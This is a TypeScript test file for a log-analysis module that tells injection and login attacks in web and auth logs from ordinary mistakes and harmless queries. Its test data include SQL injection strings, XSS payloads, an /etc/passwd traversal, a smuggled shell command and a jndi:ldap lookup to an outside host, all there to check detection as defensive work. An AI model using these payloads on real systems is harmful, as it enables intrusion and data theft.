/** Attacks are told from ordinary mistakes. */
import { describe, expect, it } from 'vitest';
import { readAttempt, readLogin } from '../../src/analyses/security-signs.ts';
import { logEvent, requestEvent } from '../support/log-events.ts';
import { cpuMilliseconds } from '../support/cpu-time.ts';

const target = (path: string, query: string): ReturnType<typeof readAttempt> =>
  readAttempt(
    requestEvent(0, { path, status: 200 }, { ip: '192.0.2.1', raw: `192.0.2.1 "GET ${path}${query} HTTP/1.1" 200` }),
  );

describe('answers of a login', () => {
  const outcome = (method: string, status: number): boolean | undefined =>
    readLogin(requestEvent(0, { method, path: '/wp-login.php', status }, { ip: '192.0.2.1' }))?.isSuccess;

  it.each([
    ['POST', 401, false],
    ['POST', 429, false],
    ['GET', 401, false],
    ['GET', 429, undefined],
    ['GET', 404, undefined],
    ['POST', 302, true],
    ['GET', 200, undefined],
  ])('%s %i', (method, status, isSuccess) => expect(outcome(method, status)).toBe(isSuccess));
});

describe('injection attempts', () => {
  it.each([
    ['?q=1%27%20OR%20%271%27%3D%271', 'sql_injection'],
    ['?q=x%27%20UNION%20SELECT%20NULL,version()--%20-', 'sql_injection'],
    ['?id=1;DROP%20TABLE%20users--', 'sql_injection'],
    ['?id=1%20AND%20SLEEP(5)', 'sql_injection'],
    ['?page=1%20ORDER%20BY%2010--', 'sql_injection'],
    ['?q=%27%20OR%201=1%23', 'sql_injection'],
    ['?q=%3Cscript%3Ealert(1)%3C/script%3E', 'xss'],
    ['?file=../../../../etc/passwd', 'path_traversal'],
    ['?host=127.0.0.1;cat%20/etc/hosts', 'command_injection'],
    ['?x=$%7Bjndi:ldap://198.51.100.1/a%7D', 'command_injection'],
  ])('%s is %s', (query, kind) => expect(target('/search', query)?.kind).toBe(kind));

  it.each([
    "?q=o'neill",
    '?q=o%27neill+wetsuit',
    '?q=union+jack',
    '?q=select+comfort+pillow',
    "?q=kids'+boots",
    '?q=rock+and+roll&page=2',
    '?q=drop+shoulder+tee',
    '?sort=price;asc',
    '?sort=price&id=7',
  ])('%s is none', query => expect(target('/search', query)).toBeNull());

  it('are found in the query of the front page, whatever stands before it in the line', () => {
    const message = 'GET /?q=x%27%20UNION%20SELECT%20NULL,version() 200';
    const raw = `192.0.2.1 - - [01/Mar/2026:10:00:00 +0000] "${message}`;
    const event = requestEvent(0, { path: '/', status: 200 }, { ip: '192.0.2.1', message, raw });
    expect(readAttempt(event)?.kind).toBe('sql_injection');
  });

  it.each([
    ['possible SQL injection attempt blocked, payload=x', 'sql_injection'],
    ['XSS attempt detected: <img src=x onerror=alert(1)>', 'xss'],
    ['directory traversal attempt: ..%2f..%2fetc%2fpasswd', 'path_traversal'],
    ['command injection blocked by rule 932160', 'command_injection'],
  ])('are taken from words: %s', (message, kind) => {
    expect(readAttempt(logEvent(0, { message: `${message} from 192.0.2.7` }))).toEqual({ source: '192.0.2.7', kind });
    expect(readAttempt(logEvent(0, { message }))).toBeNull();
  });

  it.each([
    ["GET /search?q=1' OR '1'='1 from 192.0.2.7", 'sql_injection'],
    ['GET /p?id=1 UNION SELECT name FROM users from 192.0.2.7', 'sql_injection'],
    ["GET /search?q=o'neill and sons 200", undefined],
    ['GET /orders?id=7 failed and user=5', undefined],
  ])('are found in queries that are printed as understood: %s', (message, kind) => {
    const path = /\/\w+/.exec(message)?.[0] ?? '';
    const event = requestEvent(0, { path }, { ip: '192.0.2.7', message, raw: message });
    expect(readAttempt(event)?.kind).toBe(kind);
  });

  it('takes linear time for a long query', () => {
    const spent = cpuMilliseconds(() => {
      for (const piece of ["'", "' or ", '%27%20', ';', 'union ', '../'])
        target('/search', `?q=${piece.repeat(20_000)}`);
    });
    expect(spent).toBeLessThan(500);
  });
});

describe('logins', () => {
  it.each([
    ['Failed password for invalid user admin from 192.0.2.9 port 4022 ssh2', '192.0.2.9', false],
    ['Login failed for ann@example.org from 192.0.2.9: bad password', '192.0.2.9', false],
    ['Accepted password for ann from 192.0.2.9 port 4022 ssh2', '192.0.2.9', true],
    ['pam_unix(sshd:auth): authentication failure; rhost=192.0.2.9', '192.0.2.9', false],
  ])('%s', (message, source, isSuccess) =>
    expect(readLogin(logEvent(0, { message }))).toMatchObject({ source, isSuccess, isAnswer: false }),
  );

  it.each(['Order 17 failed', 'password reset mail sent to 192.0.2.9', 'login page served from 192.0.2.9'])(
    '%s is none',
    message => expect(readLogin(logEvent(0, { message }))).toBeNull(),
  );

  it.each([
    ["Signing failed: KeyError: 'PARTNER_SIGNING_KEY'", 'warn'],
    ['FATAL: password authentication failed for user "app"', 'error'],
  ] as const)('%s, met while serving a user, is none', (message, level) =>
    expect(readLogin(logEvent(0, { message, level, user: 'u17' }))).toBeNull(),
  );

  it('of a user without an address count where they are no error', () =>
    expect(readLogin(logEvent(0, { message: 'Login failed: bad password', level: 'warn', user: 'u17' }))).toMatchObject(
      {
        source: 'user u17',
      },
    ));

  it('are not told by an id that happens to have the letters', () => {
    const answerTo = (path: string): ReturnType<typeof readLogin> =>
      readLogin(requestEvent(0, { path, status: 401 }, { ip: '192.0.2.1' }));
    expect(answerTo('/orders/77d02fa1-9f1c-4c9e-8d10-aa77d02fa122')).toBeNull();
    expect(answerTo('/account/2fa/verify')).toMatchObject({ isSuccess: false });
  });

  it('are told by the status of an answer, too', () => {
    const answer = (path: string, status: number): ReturnType<typeof readLogin> =>
      readLogin(requestEvent(0, { path, status, method: 'POST' }, { ip: '192.0.2.9' }));
    expect(answer('/api/login', 401)).toMatchObject({ isSuccess: false, isAnswer: true });
    expect(answer('/api/login', 200)).toMatchObject({ isSuccess: true });
    expect(answer('/api/orders', 401)).toBeNull();
  });
});
